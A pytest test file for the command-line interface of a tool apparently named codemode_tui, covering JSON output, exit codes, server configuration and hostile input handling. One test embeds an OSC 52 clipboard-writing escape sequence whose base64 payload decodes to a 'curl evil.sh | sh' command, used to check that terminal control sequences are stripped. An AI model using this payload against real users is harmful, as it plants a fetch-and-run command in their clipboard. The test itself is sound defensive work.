"""The headless command line, as a CI script would use it: --json, exit codes, files.

Most commands run in the test process (``tests/cli_runner.py``: the same entry
point, the demo server in memory); the ones about a real process (``--help``
from the installed module, a run end to end, what reaches a terminal) start
``python -m codemode_tui`` as a shell would.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.cli_runner import run_cli

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture
def cli(isolated_home: Path, tmp_path: Path):
    config = tmp_path / "mcp.json"
    config.write_text(
        json.dumps({"mcpServers": {"demo": {"command": sys.executable, "args": ["-m", "codemode_tui", "demo-server"]}}})
    )

    def run(
        *args: str, use_config: bool = True, stdin: str | None = None, process: bool = False
    ) -> subprocess.CompletedProcess[str]:
        argv = [*args, "--config", str(config)] if use_config else list(args)
        if not process:
            return run_cli(argv, stdin=stdin)
        command = [sys.executable, "-m", "codemode_tui", *argv]
        env = {**os.environ, "CODEMODE_TUI_HOME": str(isolated_home)}
        return subprocess.run(command, capture_output=True, text=True, timeout=180, env=env, input=stdin)

    return run


def test_help_lists_every_mode(cli) -> None:
    out = cli("--help", use_config=False, process=True)
    assert out.returncode == 0
    for command in ("servers", "tools", "search", "run", "serve", "skills", "demo-server"):
        assert command in out.stdout


def test_servers_commands_edit_the_saved_configuration(cli, tmp_path: Path, isolated_home: Path) -> None:
    added = cli(
        "servers", "add", "time", sys.executable, "-m", "mcp_server_time", "--local-timezone", "UTC", use_config=False
    )
    assert added.returncode == 0
    listed = json.loads(cli("servers", "list", "--json", use_config=False).stdout)
    assert listed[1]["target"].endswith(
        "-m mcp_server_time --local-timezone UTC"
    )  # flags after the command are its own
    listed = json.loads(cli("servers", "list", "--json", use_config=False).stdout)
    assert [s["name"] for s in listed] == ["demo", "time"]
    other = tmp_path / "claude.json"
    other.write_text(json.dumps({"mcpServers": {"time": {"command": "x"}, "web": {"url": "http://127.0.0.1:9/mcp"}}}))
    report = json.loads(cli("servers", "import", str(other), "--json", use_config=False).stdout)
    assert {k: report[k] for k in ("added", "replaced", "conflicts", "failed")} == {
        "added": ["web"],
        "replaced": [],
        "conflicts": ["time"],
        "failed": {},
    }
    bad = cli("servers", "add", "--transport", "http", "x", "ftp://nope", use_config=False)
    assert bad.returncode == 2 and "url must start with http" in bad.stderr
    assert cli("servers", "remove", "web", use_config=False).returncode == 0
    broken = isolated_home / "config" / "servers.json"
    broken.write_text("{oops")
    failed = cli("servers", "list", use_config=False)
    assert failed.returncode == 2 and "not valid JSON" in failed.stderr and str(broken) in failed.stderr
    assert broken.read_text() == "{oops"


def test_tools_and_search_as_json(cli) -> None:
    listed = cli("tools", "--json")
    tools = json.loads(listed.stdout)
    assert {t["qualifiedName"] for t in tools} >= {"demo__calculate", "demo__read_file"}
    assert "demo: 10 tools" in listed.stderr  # discovered (progress on stderr, data on stdout)
    # The next command answers from the tool cache: no server is started.
    found = cli("search", "read a text file", "--json", "--limit", "3")
    assert found.returncode == 0
    answer = json.loads(found.stdout)
    assert answer["tools"][0]["name"] == "demo__read_file" and answer["returned"] <= 3
    assert "from the cache" in found.stderr and "demo: 10 tools" not in found.stderr
    # --refresh connects again.
    refreshed = cli("tools", "--refresh")
    assert "demo: 10 tools" in refreshed.stderr and "demo__calculate" in refreshed.stdout


def test_run_prints_output_result_and_trace(cli, tmp_path: Path, isolated_home: Path) -> None:
    script = tmp_path / "job.py"
    script.write_text(
        "from generated.servers.demo import calculate, write_file, read_file\n"
        "await write_file(path='out.txt', content='hello')\n"
        "print((await read_file(path='out.txt')).upper())\n"
        "await calculate(a=6, b=7, op='multiply')\n"
    )
    plain = cli("run", str(script), process=True)
    assert plain.returncode == 0, plain.stderr
    assert plain.stdout == "HELLO\n42.0\n"
    assert "3 tool calls" in plain.stderr
    as_json = json.loads(cli("run", str(script), "--json").stdout)
    assert as_json["success"] and as_json["value"] == 42.0
    assert [c["name"] for c in as_json["trace"]] == ["demo__write_file", "demo__read_file", "demo__calculate"]
    history = [json.loads(line) for line in (isolated_home / "data" / "history.jsonl").read_text().splitlines()]
    assert [run["status"] for run in history] == ["ok", "ok"]
    assert [run["source"] for run in history] == ["cli", "cli"]
    assert history[0]["code"] == script.read_text() and len(history[0]["trace"]) == 3


def test_failing_run_exits_non_zero(cli, tmp_path: Path) -> None:
    script = tmp_path / "bad.py"
    script.write_text("from generated.servers.demo import always_fails\nawait always_fails(reason='nope')\n")
    out = cli("run", str(script), "--json")
    assert out.returncode == 1
    result = json.loads(out.stdout)
    assert (
        result["success"] is False and result["error"]["type"] == "ToolError" and "nope" in result["error"]["message"]
    )
    missing = cli("run", str(tmp_path / "missing.py"))
    assert missing.returncode == 2 and "cannot read" in missing.stderr
    timeout = cli("run", "-", "--timeout", "1", stdin="while True:\n    pass\n", process=True)
    assert timeout.returncode == 1 and "timed out" in timeout.stderr


def test_run_strips_terminal_control_sequences_from_sandbox_and_tool_output(cli, tmp_path: Path) -> None:
    clipboard = "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"  # OSC 52: write the user's clipboard
    script = tmp_path / "hostile.py"
    script.write_text(
        "from generated.servers.demo import write_file, read_file, always_fails\n"
        f"print('printed{clipboard}\\x1b]0;title\\x07\\x1b[2J\\x1b[Hend')\n"
        f"await write_file(path='evil.txt', content='from a tool{clipboard}\\x9b2J!')\n"
        "print(await read_file(path='evil.txt'))\n"
        "import sys; print('\\x1b[1A\\x1b[2Kon stderr', file=sys.stderr)\n"
        f"await always_fails(reason='boom{clipboard}')\n"
    )
    out = cli("run", str(script), process=True)
    assert out.returncode == 1
    for stream in (out.stdout, out.stderr):
        assert "\x1b" not in stream and "\x07" not in stream and "\x9b" not in stream
    assert out.stdout.startswith("printedend\nfrom a tool!\n")
    assert "on stderr" in out.stderr and "boom" in out.stderr
    as_json = cli("run", str(script), "--json")
    data = json.loads(as_json.stdout)  # JSON keeps the data, escaped
    assert "\x1b]52;c;" in data["stdout"] and "\x1b" not in as_json.stdout and "\x9b" not in as_json.stdout


def _hostile(kind: str, tmp_path: Path) -> str:
    if kind == "dev-zero":
        return "/dev/zero"
    path = tmp_path / kind
    if kind == "nested":
        path.write_text('{"mcpServers": ' + "[" * 100_000 + "]" * 100_000 + "}")
    elif kind == "nested-objects":
        path.write_text('{"mcpServers": {"a": ' + '{"x": ' * 5000 + "1" + "}" * 5000 + "}}")
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    elif kind == "colliding":
        path.write_text(json.dumps({"mcpServers": {"a-b": {"command": "x"}, "a_b": {"command": "y"}}}))
    return str(path)


HOSTILE = {
    "nested": "nested too deeply",
    "nested-objects": "nested too deeply",
    "fifo": "FIFO",
    "dev-zero": "device or special file",
    "folder": "is a folder",
    "colliding": "'a-b' and 'a_b'",
}


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_hostile_config_files_get_a_one_line_error(cli, tmp_path: Path, kind: str) -> None:
    config = _hostile(kind, tmp_path)
    out = cli("servers", "list", "--config", config, use_config=False)
    assert out.returncode == 2 and out.stdout == ""
    assert out.stderr.count("\n") == 1 and out.stderr.startswith("error: ") and HOSTILE[kind] in out.stderr
    imported = cli("servers", "import", config, use_config=False)
    assert "Traceback" not in imported.stderr
    if kind == "colliding":  # the first of the two is imported, the other reported by name
        assert imported.returncode == 1 and "added: a-b" in imported.stderr
        assert "error: not imported: a_b: " in imported.stderr and "a_b" in imported.stderr
    else:
        assert imported.returncode == 2 and imported.stderr.count("\n") == 1, imported.stderr


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "folder"])
def test_run_and_skills_save_refuse_files_that_are_not_files(cli, tmp_path: Path, kind: str) -> None:
    code = _hostile(kind, tmp_path)
    for command in (["run", code], ["skills", "save", "x", "--file", code]):
        out = cli(*command)  # a FIFO would block and /dev/zero fill the memory if read as a file
        assert out.returncode == 2 and out.stderr.startswith(f"error: cannot read {code}: "), out.stderr
        assert out.stderr.count("\n") == 1


async def test_generated_bindings_pass_mypy_strict_with_codemode_tui_installed(tmp_path: Path) -> None:
    """A user's script type-checks against bindings in a generated folder, outside this test suite.

    mypy finds codemode-tui as an installed package (a venv whose site-packages
    points at the project, as an editable install does); an installed package
    without a ``py.typed`` marker is ``import-untyped`` to mypy, so the package
    must ship one.  The engine's own modules are skipped (``follow_imports``):
    what is checked is the user's script, the bindings and how they resolve.
    """
    from codemode_tui import ToolRegistry
    from codemode_tui.codegen import PythonCodeGenerator
    from tests.conftest import demo_stdio_config

    async with ToolRegistry([demo_stdio_config()]) as registry:
        await registry.discover_all()
        PythonCodeGenerator(tmp_path / "bindings").generate_from_tools(registry.list_tools())
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--system-site-packages", "--without-pip", str(venv)], check=True)
    python = venv / "bin" / "python"
    site = subprocess.run(
        [str(python), "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    (Path(site) / "codemode_tui_project.pth").write_text(str(ROOT) + "\n")
    script = tmp_path / "bindings" / "job.py"
    script.write_text(
        "from generated.servers.demo import calculate, read_file\n\n\n"
        "async def main() -> str:\n"
        "    product = await calculate(a=6, b=7, op='multiply')\n"
        "    text = await read_file(path='notes.txt')\n"
        "    return f'{product} {text}'\n"
    )
    config = tmp_path / "mypy.ini"
    config.write_text("[mypy]\n\n[mypy-codemode_tui.*]\nfollow_imports = skip\n")
    env = {k: v for k, v in os.environ.items() if k not in ("MYPYPATH", "PYTHONPATH")}
    checked = subprocess.run(
        [
            sys.executable,
            "-m",
            "mypy",
            "--strict",
            "--python-executable",
            str(python),
            "--config-file",
            str(config),
            "--cache-dir",
            str(tmp_path / "mypy-cache"),
            "job.py",
        ],
        cwd=script.parent,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_the_help_defaults_are_the_engine_defaults() -> None:
    """cli.py repeats a few defaults so ``--help`` needs no engine import; they must not drift."""
    from codemode_tui import cli, server_mode, workspace

    assert cli.DEFAULT_MAX_SESSIONS == workspace.DEFAULT_MAX_SESSIONS
    assert cli.DEFAULT_SESSION_IDLE_TIMEOUT == workspace.DEFAULT_SESSION_IDLE_TIMEOUT
    assert cli.DEFAULT_ANSWER_CHARS == server_mode.DEFAULT_ANSWER_CHARS
    assert cli.TOKEN_ENV == server_mode.TOKEN_ENV


def test_check_reports_each_problem_with_its_position_and_exits_1(cli, tmp_path: Path) -> None:
    script = tmp_path / "agent.py"
    script.write_text(
        "from generated.servers.demo import add_note, calculate\n"
        "note = await add_note(titel='x')\n"
        "note.upper()\n"
        "await calculate(a=1, b=2, op='mod')\n"
    )
    out = cli("check", str(script))
    assert out.returncode == 1, out.stderr
    lines = out.stdout.splitlines()
    assert any(line.startswith(f"{script}:2:14: error[missing-argument]") for line in lines), out.stdout
    assert any(f"{script}:2:23: error[unknown-argument]" in line and "did you mean `title`" in line for line in lines)
    assert any(f"{script}:3:1: error[" in line and "AddNoteOutput is a dict" in line for line in lines)
    assert any(f"{script}:4:" in line and '"mod"' in line for line in lines)
    assert "-- 4 errors, 0 warnings" in out.stderr

    report = json.loads(cli("check", "-", "--json", stdin="from generated.servers.demo import read_file\n").stdout)
    assert report == {"file": "<stdin>", "errors": 0, "diagnostics": []}
    clean = cli("check", "-", stdin="from generated.servers.demo import read_file\nawait read_file(path='a')\n")
    assert clean.returncode == 0 and clean.stdout == ""


def test_run_check_block_runs_nothing_and_warn_reports_before_running(cli, tmp_path: Path) -> None:
    script = tmp_path / "agent.py"
    script.write_text("from generated.servers.demo import write_file\nprint('started')\nawait write_file(path='x')\n")
    blocked = cli("run", str(script), "--sandbox", "eval", "--check", "block")
    assert blocked.returncode == 1 and "started" not in blocked.stdout
    assert f"{script}:3:7: error[missing-argument]" in blocked.stderr and "CheckError" in blocked.stderr
    warned = cli("run", str(script), "--sandbox", "eval")
    assert warned.returncode == 1 and "started" in warned.stdout  # warn is the default: it ran
    assert f"{script}:3:7: error[missing-argument]" in warned.stderr


def test_servers_import_takes_vscode_inputs_on_the_command_line(cli, tmp_path: Path, isolated_home: Path) -> None:
    vscode = tmp_path / "mcp.json"
    vscode.write_text(
        "{\n  // VS Code writes comments\n"
        '  "inputs": [{"type": "promptString", "id": "api-key", "description": "API key", "password": true}],\n'
        '  "servers": {"api": {"type": "http", "url": "http://127.0.0.1:9/mcp",'
        ' "headers": {"Authorization": "Bearer ${input:api-key}"}}},\n}\n'
    )
    missing = cli("servers", "import", str(vscode), use_config=False)
    assert missing.returncode == 1 and "give --input api-key=VALUE" in missing.stderr
    done = cli("servers", "import", str(vscode), "--input", "api-key=s3cret", use_config=False)
    assert done.returncode == 0, done.stderr
    saved = next(isolated_home.rglob("servers.json")).read_text()
    assert "s3cret" not in saved and "api" in saved  # the value is for the session, not the file
